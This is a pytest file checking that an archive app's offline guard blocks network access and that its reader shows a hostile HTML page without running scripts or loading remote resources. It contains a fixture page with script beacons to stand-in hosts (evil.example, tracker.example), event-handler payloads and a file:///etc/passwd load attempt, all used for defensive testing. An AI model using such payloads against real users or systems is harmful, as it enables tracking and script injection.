"""The offline guarantee: no code under test reaches the network, in this process or its workers.

The guard itself lives in `tests/offline_guard.py` (a plugin for the whole suite); these tests
prove that it really blocks and records (in this process, in forkserver workers such as the
importer's, and in a guarded subprocess), and that the reader widget shows a hostile HTML page
without running its scripts or fetching its remote images.
"""

from __future__ import annotations

import multiprocessing
import os
import socket
import subprocess
from concurrent.futures import ProcessPoolExecutor
from pathlib import Path

import pytest

from advocacy_archive.index.archive import Archive
from tests import offline_guard
from tests.offline_guard import NetworkBlocked, guarded_python

HOSTILE_PAGE = """<!doctype html>
<html><head><title>Statement on Detained Journalists</title>
<script>document.title = "SCRIPT-RAN"; fetch("http://tracker.example/beacon");</script>
<script src="http://evil.example/payload.js"></script>
<link rel="stylesheet" href="http://evil.example/style.css">
<meta http-equiv="refresh" content="0; url=http://evil.example/">
</head>
<body onload="alert('ONLOAD-RAN')">
<img src="http://evil.example/pixel.png" onerror="alert('ONERROR-RAN')">
<iframe src="http://evil.example/frame.html"></iframe>
<article>
<h1>Statement on Detained Journalists</h1>
<p>We call on the authorities to release the detained journalists immediately and to allow
independent monitors access to every place of detention.</p>
<p>Reporting is not a crime. The government must end the prosecution of reporters and repeal
the laws used to silence them.</p>
<p><img src="https://evil.example/inline.png" alt=""> Journalists in custody must have access to
lawyers and their families without delay.</p>
</article>
</body></html>
"""
SCRIPT_MARKERS = ("SCRIPT-RAN", "ONLOAD-RAN", "ONERROR-RAN", "tracker.example", "alert(", "fetch(")


def _forget_attempts_since(mark: int) -> None:
    """Drop the attempts this test made on purpose, so the suite-wide check does not fail it."""
    log = Path(os.environ[offline_guard.LOG_ENV])
    lines = log.read_text(encoding="utf-8").splitlines(keepends=True)
    log.write_text("".join(lines[:mark]), encoding="utf-8")
    offline_guard.attempts.clear()


def _try_to_connect() -> str:
    """Runs in a worker process: what happens when it tries to reach the internet."""
    try:
        socket.create_connection(("example.org", 80), timeout=1)
    except NetworkBlocked:
        return "blocked"
    except OSError as exc:
        return f"not guarded: {exc!r}"
    return "connected"


def test_tcp_connect_and_name_lookup_are_refused_and_recorded() -> None:
    mark = len(offline_guard.logged_attempts())
    with pytest.raises(NetworkBlocked):
        socket.create_connection(("example.org", 80), timeout=1)
    with pytest.raises(NetworkBlocked):
        socket.getaddrinfo("example.org", 443)
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    try:
        with pytest.raises(NetworkBlocked):
            sock.connect(("127.0.0.1", 9))
        with pytest.raises(NetworkBlocked):
            sock.connect_ex(("127.0.0.1", 9))
    finally:
        sock.close()
    recorded = offline_guard.logged_attempts()[mark:]
    assert len(recorded) == 4, recorded
    _forget_attempts_since(mark)


def test_unix_sockets_still_work() -> None:
    left, right = socket.socketpair(socket.AF_UNIX)
    with left, right:
        left.sendall(b"ping")
        assert right.recv(4) == b"ping"


def test_forkserver_workers_like_the_importers_are_guarded_too() -> None:
    mark = len(offline_guard.logged_attempts())
    context = multiprocessing.get_context("forkserver")  # the importer's pool context
    with ProcessPoolExecutor(max_workers=1, mp_context=context) as pool:
        assert pool.submit(_try_to_connect).result(timeout=60) == "blocked"
    recorded = offline_guard.logged_attempts()[mark:]
    assert recorded and all(f"pid {os.getpid()}:" not in line for line in recorded), recorded
    _forget_attempts_since(mark)


def test_a_guarded_subprocess_is_refused_and_recorded() -> None:
    mark = len(offline_guard.logged_attempts())
    code = "import socket; socket.create_connection(('example.org', 443), timeout=1)"
    run = subprocess.run(guarded_python(code), capture_output=True, text=True, timeout=60)
    assert run.returncode != 0 and "NetworkBlocked" in run.stderr
    assert len(offline_guard.logged_attempts()) == mark + 1
    _forget_attempts_since(mark)


def test_importing_a_hostile_page_fetches_nothing_and_keeps_no_script(tmp_path: Path) -> None:
    page = tmp_path / "statement.html"
    page.write_text(HOSTILE_PAGE, encoding="utf-8")
    with Archive.open(tmp_path / "archive") as archive:
        report = archive.import_paths([page], jobs=2)  # through the guarded worker pool
        assert len(report.imported) == 1, report.outcomes
        doc = archive.document(report.imported[0].doc_id)
    assert "release the detained journalists" in doc.text
    assert not any(marker in doc.text or marker in doc.title for marker in SCRIPT_MARKERS)
    # the suite-wide guard fails this test if any process tried to connect


def test_reader_shows_a_hostile_page_without_scripts_or_remote_loads(qtbot, tmp_path: Path) -> None:
    from PySide6.QtCore import QUrl
    from PySide6.QtGui import QTextDocument

    from advocacy_archive.app.reader import ReaderView

    page = tmp_path / "statement.html"
    page.write_text(HOSTILE_PAGE, encoding="utf-8")
    with Archive.open(tmp_path / "archive") as archive:
        report = archive.import_paths([page], jobs=1)
        doc = archive.document(report.imported[0].doc_id)
        reader = ReaderView(archive)
        qtbot.addWidget(reader)
        reader.show()
        reader.show_document(doc)
        qtbot.waitExposed(reader)
        shown = reader.text.toPlainText()
        assert "release the detained journalists" in shown
        assert not any(marker in shown for marker in SCRIPT_MARKERS)
        assert not any(marker in reader.header.text() for marker in SCRIPT_MARKERS)
        # Even if HTML did reach the reader's text view, it would load no resource, remote or local.
        view = type(reader.text)()
        qtbot.addWidget(view)
        for url in ("http://evil.example/pixel.png", "https://evil.example/a.css", "file:///etc/passwd"):
            assert view.loadResource(QTextDocument.ResourceType.ImageResource.value, QUrl(url)) is None
        view.setHtml(HOSTILE_PAGE)
        view.show()
        qtbot.waitExposed(view)
        assert "SCRIPT-RAN" not in view.toPlainText()
